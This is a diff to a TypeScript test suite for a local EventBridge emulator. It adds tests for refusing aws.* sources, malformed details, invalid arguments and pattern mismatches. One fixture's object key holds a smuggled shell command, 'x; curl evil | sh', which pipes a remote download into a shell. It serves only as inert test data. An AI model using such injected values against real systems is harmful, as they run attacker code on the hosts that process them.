@@ -13,11 +13,23 @@ const CONFIG = {
   account: '123456789012',
   region: 'eu-west-1',
   triggers: [
-    { name: 'orders', eventPattern: { source: ['aws.s3'], 'detail-type': ['Object Created'] } },
+    { name: 'orders', eventPattern: { source: ['com.example.orders'], 'detail-type': ['Object Created'] } },
     { name: 'other', eventPattern: { source: ['other'] } },
+    // Only S3 may publish aws.s3 events: no PutEvents entry can fire this one.
+    { name: 'landing', eventPattern: { source: [{ prefix: { 'equals-ignore-case': 'aws.' } }] } },
   ],
 };
-const ORDER = { Source: 'aws.s3', DetailType: 'Object Created', Detail: '{"object":{"key":"raw/orders.csv"}}', Time: 1_800_000_000 };
+const ORDER = { Source: 'com.example.orders', DetailType: 'Object Created', Detail: '{"object":{"key":"raw/orders.csv"}}', Time: 1_800_000_000 };
+
+/** A bus that records what it fires. */
+function recordingBus() {
+  const fired: [string, Record<string, unknown>][] = [];
+  const bus = new LocalEventBus(CONFIG, (name, event) => {
+    fired.push([name, event]);
+    return Promise.resolve();
+  });
+  return { bus, fired };
+}
 
 /** Lets promise callbacks scheduled so far run. */
 const settle = () => new Promise((r) => setImmediate(r));
@@ -32,11 +44,11 @@ describe('the local EventBridge', () => {
       fired.push([name, event]);
       return Promise.resolve();
     });
-    const answer = bus.putEvents({ Entries: [ORDER, { Source: 'elsewhere' }] });
+    const answer = bus.putEvents({ Entries: [ORDER, { Source: 'elsewhere', DetailType: 'x', Detail: '{}' }] });
     await settle();
     expect(answer.FailedEntryCount).toBe(0);
     expect(fired).toEqual([
-      ['orders', { version: '0', id: answer.Entries[0]!.EventId, 'detail-type': 'Object Created', source: 'aws.s3', account: CONFIG.account, time: '2027-01-15T08:00:00Z', region: CONFIG.region, resources: [], detail: { object: { key: 'raw/orders.csv' } } }],
+      ['orders', { version: '0', id: answer.Entries[0]!.EventId, 'detail-type': 'Object Created', source: 'com.example.orders', account: CONFIG.account, time: '2027-01-15T08:00:00Z', region: CONFIG.region, resources: [], detail: { object: { key: 'raw/orders.csv' } } }],
     ]);
     expect(answer.Entries).toHaveLength(2);
   });
@@ -49,6 +61,55 @@ describe('the local EventBridge', () => {
     const error = thrown(() => new LocalEventBus(CONFIG, () => Promise.resolve()).putEvents({ Entries: entries }));
     expect(error).toBeInstanceOf(LocalServiceError);
     expect(error).toMatchObject({ type: 'ValidationException', status: 400, message: 'Entries must have between 1 and 10 members.' });
+  });
+
+  it('refuses aws.* sources per entry, as AWS does (only AWS services publish them), and fires nothing for them', async () => {
+    const { bus, fired } = recordingBus();
+    const s3 = { Source: 'aws.s3', DetailType: 'Object Created', Detail: '{"bucket":{"name":"landing-bucket"},"object":{"key":"x; curl evil | sh"}}' };
+    const answer = bus.putEvents({ Entries: [s3, ORDER, { ...s3, Source: 'AWS.S3' }] });
+    await settle();
+    const refused = { ErrorCode: 'NotAuthorizedForSourceException', ErrorMessage: 'Not authorized for the source.' };
+    expect(answer).toEqual({ FailedEntryCount: 2, Entries: [refused, { EventId: expect.any(String) }, refused] });
+    expect(fired.map(([name]) => name)).toEqual(['orders']);
+  });
+
+  it.each(['{"object":', '[1, 2]', '"a string"', '42', 'null', ''])('refuses a Detail that is not a JSON object (%j) per entry: MalformedDetail', async (detail) => {
+    const { bus, fired } = recordingBus();
+    const answer = bus.putEvents({ Entries: [{ ...ORDER, Detail: detail }] });
+    await settle();
+    expect(answer).toEqual({ FailedEntryCount: 1, Entries: [{ ErrorCode: 'MalformedDetail', ErrorMessage: 'Detail is malformed.' }] });
+    expect(fired).toEqual([]);
+  });
+
+  it('refuses an entry whose Time or Resources are not what the API takes', () => {
+    const { bus } = recordingBus();
+    expect(bus.putEvents({ Entries: [{ ...ORDER, Time: 'soon' }, { ...ORDER, Resources: 'arn:aws:s3:::b' }] })).toEqual({
+      FailedEntryCount: 2,
+      Entries: [
+        { ErrorCode: 'InvalidArgument', ErrorMessage: 'Parameter Time is not valid.' },
+        { ErrorCode: 'InvalidArgument', ErrorMessage: 'Parameter Resources is not valid.' },
+      ],
+    });
+  });
+
+  it.each(['Source', 'DetailType', 'Detail'] as const)('refuses an entry without %s per entry: InvalidArgument', (field) => {
+    const { bus } = recordingBus();
+    const { [field]: _omitted, ...entry } = ORDER;
+    expect(bus.putEvents({ Entries: [entry, ORDER] })).toEqual({
+      FailedEntryCount: 1,
+      Entries: [{ ErrorCode: 'InvalidArgument', ErrorMessage: `Parameter ${field} is not valid. Reason: ${field} is a required argument.` }, { EventId: expect.any(String) }],
+    });
+  });
+
+  it("fires a trigger by name only with an event its pattern matches, as its rule would deliver it: a 400 naming what differs", async () => {
+    const { bus, fired } = recordingBus();
+    await expect(bus.fireTrigger('orders', { source: 'com.example.orders', 'detail-type': 'Object Deleted' })).rejects.toMatchObject({
+      type: 'EventPatternMismatch',
+      status: 400,
+      message: `the event does not match trigger orders's event pattern: detail-type is "Object Deleted", the pattern wants ["Object Created"]`,
+    });
+    await expect(bus.fireTrigger('orders', { 'detail-type': 'Object Created' })).rejects.toMatchObject({ message: expect.stringMatching(/: source is missing, the pattern wants \["com\.example\.orders"\]$/) });
+    expect(fired).toEqual([]);
   });
 
   it('logs a trigger that fails in the background, with the trigger and the event id', async () => {
@@ -68,12 +129,13 @@ describe('the local EventBridge', () => {
       events.push(event);
       return Promise.resolve(outcome);
     });
-    await expect(ok.fireTrigger('orders', { detail: {} })).resolves.toBe(outcome);
-    expect(events[0]).toEqual({ id: expect.any(String), detail: {} });
-    await ok.fireTrigger('orders', { id: 'e-1' });
-    expect(events[1]).toEqual({ id: 'e-1' });
+    const order = { source: 'com.example.orders', 'detail-type': 'Object Created' };
+    await expect(ok.fireTrigger('orders', { ...order, detail: {} })).resolves.toBe(outcome);
+    expect(events[0]).toEqual({ id: expect.any(String), ...order, detail: {} });
+    await ok.fireTrigger('orders', { id: 'e-1', ...order });
+    expect(events[1]).toEqual({ id: 'e-1', ...order });
 
-    const failing = (error: Error) => new LocalEventBus(CONFIG, () => Promise.reject(error)).fireTrigger('orders', {});
+    const failing = (error: Error) => new LocalEventBus(CONFIG, () => Promise.reject(error)).fireTrigger('orders', order);
     await expect(failing(new NotFoundError('no trigger named orders'))).rejects.toMatchObject({ type: 'NotFound', status: 404, message: 'no trigger named orders' });
     await expect(failing(ValidationError.single('event.id', 'an EventBridge event has an id'))).rejects.toMatchObject({ type: 'ValidationError', status: 400 });
     await expect(failing(new TransientError('DynamoDB PutItem: ThrottlingException'))).rejects.toMatchObject({ type: 'Gateway.Transient', status: 500 });
